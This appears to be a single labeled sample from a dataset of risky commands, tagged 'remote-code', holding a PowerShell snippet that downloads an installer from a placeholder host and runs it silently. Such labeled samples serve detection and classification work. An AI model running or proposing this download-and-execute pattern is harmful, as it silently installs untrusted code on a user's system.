# description: Downloads an installer from the internet and runs it silently.
# family: remote-code
Invoke-WebRequest -Uri https://example.com/setup.exe -OutFile "$env:TEMP\setup.exe"
Start-Process -FilePath "$env:TEMP\setup.exe" -ArgumentList '/quiet' -Wait
